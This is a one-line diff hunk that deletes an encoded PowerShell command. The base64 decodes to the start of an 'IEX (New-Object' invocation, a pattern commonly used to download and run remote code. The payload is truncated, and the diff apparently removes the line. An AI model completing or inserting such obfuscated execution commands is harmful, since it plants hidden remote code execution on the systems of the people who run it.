@@ -1,1 +1,0 @@
-powershell -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA
